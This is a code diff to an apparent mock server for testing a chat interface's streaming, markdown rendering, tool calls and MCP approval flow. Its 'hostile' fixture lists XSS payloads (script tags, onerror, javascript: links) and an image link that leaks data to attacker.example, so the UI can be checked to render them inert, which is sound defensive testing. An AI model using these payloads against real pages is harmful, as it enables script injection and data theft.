@@ -7,6 +7,16 @@
  * - one that mentions "long": a long answer (to try the stop button on);
  * - one that mentions "busy": an HTTP 429 with OpenAI's error body and `Retry-After`;
  * - one that mentions "fast": 2,000 one-word deltas, two every millisecond or so (1,000+ a second);
+ * - one that mentions "essay": a markdown answer of 10,000 deltas (200 paragraphs of 50 words) at
+ *   the same pace, to measure what rendering costs;
+ * - one that mentions "markdown": an answer in markdown (heading, list, code, table, quote);
+ * - one that mentions "hostile": markdown with what a hostile model writes (raw `<img onerror>`,
+ *   `<script>`, `<iframe>`, a `javascript:` link), which must render inert;
+ * - one that mentions "think": a reasoning summary, then the answer;
+ * - one that mentions "weather": a call of the `get_weather` function; the request that carries
+ *   its output gets an answer that uses it (or says the call was declined);
+ * - one that mentions "issues": an MCP server's `mcp_approval_request` (`github.list_issues`); the
+ *   request that carries the `mcp_approval_response` gets an answer that follows it;
  * - anything else: a short answer, then an image in three partial frames and a final one.
  *
  * The images are real PNGs of one colour each, made here, so every frame looks different. Each
@@ -36,6 +46,54 @@ export const LONG_ANSWER = Array.from(
 
 /** The "fast" answer: 2,000 words, one delta each. */
 export const FAST_ANSWER = Array.from({ length: 2000 }, (_, i) => `w${i}`).join(' ');
+
+/** The "essay" answer: 200 markdown paragraphs of 50 one-word deltas, 10,000 deltas in all. */
+export const ESSAY_DELTAS = Array.from({ length: 10_000 }, (_, i) =>
+  i % 50 === 49 ? `e${i}.\n\n` : `e${i} `,
+);
+export const ESSAY = ESSAY_DELTAS.join('');
+
+/** The "markdown" answer: one block of each kind. */
+export const MARKDOWN = [
+  '# Tides\n\n',
+  'The **moon** pulls the sea, and the *sun* helps.\n\n',
+  '- spring tides\n- neap tides\n\n',
+  '```js\nconst high = 2; // twice a day\n\nconsole.log(high);\n```\n\n',
+  '| tide | height |\n| ---- | ------ |\n| high | 4 m |\n\n',
+  '> Time and tide wait for no one.\n\n',
+  'See [the tables](https://example.com/tides).',
+].join('');
+
+/** The "hostile" answer: each line an attack a model's output may carry. */
+export const HOSTILE = [
+  'Hostile output follows.\n\n',
+  '<img src=x onerror="alert(1)">\n\n',
+  '<script>alert(2)</script>\n\n',
+  '<iframe src="javascript:alert(3)"></iframe>\n\n',
+  'Click [here](javascript:alert(4)) or <a href="javascript:alert(5)">here</a>.\n\n',
+  '![pixel](https://attacker.example/leak?data=secret)\n\n',
+  'The end.',
+].join('');
+
+/** The "think" reasoning summary and answer. */
+export const REASONING = 'The user wants a short thought; the sea works as an example.';
+export const THOUGHT = 'The sea is never the same twice.';
+
+/** The "weather" tool call's arguments, and the answers after approval and after a denial. */
+export const WEATHER_ARGS = '{"city":"Oslo"}';
+export const WEATHER_ANSWER = 'It is sunny in Oslo, 21 °C.';
+export const WEATHER_DENIED = 'Understood: I will not look up the weather.';
+
+/** The "issues" MCP approval request, and the answers after approval and after a denial. */
+export const MCP_REQUEST = {
+  type: /** @type {const} */ ('mcp_approval_request'),
+  id: 'mcpr_issues',
+  name: 'list_issues',
+  serverLabel: 'github',
+  arguments: '{"repo":"octo/tides"}',
+};
+export const MCP_ANSWER = 'There are 3 open issues in octo/tides.';
+export const MCP_DENIED = 'Understood: I will not read the repository.';
 
 /** The error body of the "busy" answer. */
 export const RATE_LIMITED = {
@@ -73,12 +131,39 @@ export const IMAGE = {
  * @returns {MockBehavior}
  */
 export function answerTo(body, { delay, imagePause }, id = `resp_${Date.now()}`) {
-  const input =
-    typeof body === 'object' && body !== null && 'input' in body ? String(body.input) : '';
+  const raw = typeof body === 'object' && body !== null ? Reflect.get(body, 'input') : undefined;
+  const input = typeof raw === 'string' ? raw : '';
   if (/busy/i.test(input)) return { status: 429, error: RATE_LIMITED, retryAfter: 1 };
   const script = scriptResponse({ id, model: 'demo-model' }).created().inProgress();
-  if (/refuse/i.test(input)) script.refusal({ refusal: words(REFUSAL) });
-  else if (/long/i.test(input)) script.message({ text: words(LONG_ANSWER) });
+  const toolOutput = Array.isArray(raw)
+    ? raw.find((item) => item?.type === 'function_call_output')
+    : undefined;
+  const mcpAnswer = Array.isArray(raw)
+    ? raw.find((item) => item?.type === 'mcp_approval_response')
+    : undefined;
+  if (mcpAnswer !== undefined) {
+    script.message({ text: words(mcpAnswer.approve === true ? MCP_ANSWER : MCP_DENIED) });
+  } else if (/issues/i.test(input)) {
+    script.add({ type: 'response.output_item.added', outputIndex: 0, item: MCP_REQUEST });
+    script.add({ type: 'response.output_item.done', outputIndex: 0, item: MCP_REQUEST });
+    const response = script.response({ status: 'completed', output: [MCP_REQUEST] });
+    const events = script.add({ type: 'response.completed', response }).events;
+    return { stream: events, delay };
+  } else if (toolOutput !== undefined) {
+    // A denied call's output is `{"error": "The call to get_weather was not approved"}`.
+    const denied = /"error"/.test(String(toolOutput.output));
+    script.message({ text: words(denied ? WEATHER_DENIED : WEATHER_ANSWER) });
+  } else if (/refuse/i.test(input)) script.refusal({ refusal: words(REFUSAL) });
+  else if (/essay/i.test(input)) {
+    const events = script.message({ text: ESSAY_DELTAS }).completed().events;
+    return { stream: events, delay: 1, chunkSize: 340 };
+  } else if (/markdown/i.test(input)) script.message({ text: chunks(MARKDOWN, 7) });
+  else if (/hostile/i.test(input)) script.message({ text: chunks(HOSTILE, 9) });
+  else if (/think/i.test(input)) {
+    script.reasoning({ summary: [words(REASONING)] }).message({ text: words(THOUGHT) });
+  } else if (/weather/i.test(input)) {
+    script.functionCall({ name: 'get_weather', arguments: ['{"city":', '"Oslo"}'] });
+  } else if (/long/i.test(input)) script.message({ text: words(LONG_ANSWER) });
   else if (/fast/i.test(input)) {
     // A delta's SSE frame is about 170 bytes: two per 1 ms piece, about 1,000 or more a second.
     const events = script.message({ text: words(FAST_ANSWER) }).completed().events;
@@ -169,6 +254,13 @@ function cancelled(id) {
     output: [],
     usage: { input_tokens: 12, output_tokens: 34, total_tokens: 46 },
   };
+}
+
+/** @param {string} text @param {number} size @returns {string[]} The text in deltas of `size` characters. */
+function chunks(text, size) {
+  return Array.from({ length: Math.ceil(text.length / size) }, (_, i) =>
+    text.slice(i * size, (i + 1) * size),
+  );
 }
 
 /** @param {string} text @returns {string[]} The text as word deltas (each with its spaces). */
